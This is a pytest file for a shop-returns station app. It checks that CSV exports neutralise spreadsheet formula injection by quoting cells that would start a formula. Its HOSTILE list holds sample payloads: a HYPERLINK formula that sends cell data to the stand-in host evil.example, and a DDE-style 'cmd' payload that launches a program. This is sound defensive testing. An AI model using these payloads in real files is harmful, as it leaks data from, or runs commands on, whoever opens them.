"""A customer name or reason from the shop that looks like a spreadsheet formula stays text in every CSV we write."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from station.cli import main
from station.context import StationContext
from station.reports.dashboard import write_table_csv
from station.spreadsheet_csv import csv_cell, csv_line

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|x", "-2+3",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_gets_a_quote_mark_and_double_quotes(value: str) -> None:
    cell = csv_cell(value)
    assert cell == '"' + ("'" + value).replace('"', '""') + '"'
    assert next(csv.reader([csv_line([value, "x"])])) == ["'" + value, "x"], "a reader gets the text back whole"


def test_plain_text_numbers_and_empty_cells_are_written_as_before() -> None:
    assert csv_line(["Pierre Martin", "Wrong size, too small", 'the "box"', None, 12, -3.5]) == (
        'Pierre Martin,"Wrong size, too small","the ""box""",,12,-3.5\n')


def test_the_export_keeps_a_shop_customer_and_reason_as_text(ctx: StationContext, tmp_path: Path) -> None:
    from tests.station.review.scenario import inspect_item

    rmas = tmp_path / "rmas.csv"
    with rmas.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([
            ["rma_number", "order_number", "customer", "reason", "purchase_date", "line_no", "sku", "quantity"],
            ["RMA-990001", "SO-1", HOSTILE[0], HOSTILE[1], "2026-11-20", "1", "FW-3008", "1"]])
    assert main(["--data-dir", str(ctx.data_dir), "import", "rmas", str(rmas)]) == 0
    inspect_item(ctx, "RMA-990001")
    out = tmp_path / "export.csv"
    assert main(["--data-dir", str(ctx.data_dir), "export", "inspections", "-o", str(out)]) == 0
    written = out.read_text(encoding="utf-8")
    assert ',"\'=HYPERLINK(""http://evil.example/' in written and ",=HYPERLINK" not in written
    row = next(r for r in csv.DictReader(written.splitlines()) if r["rma"] == "RMA-990001")
    assert row["customer"] == "'" + HOSTILE[0] and row["return_reason"] == "'" + HOSTILE[1]
    assert row["grade"] == "A" and row["rma_line"] == "1", "the station's own values are unchanged"


def test_a_dashboard_table_keeps_a_hostile_name_as_text(tmp_path: Path) -> None:
    path = write_table_csv(tmp_path / "reasons.csv", ["reason", "count"], [["=1+2", 4], ["Wrong size", 2]])
    raw = path.read_bytes().decode("utf-8-sig")
    assert raw == "reason,count\r\n\"'=1+2\",4\r\nWrong size,2\r\n"
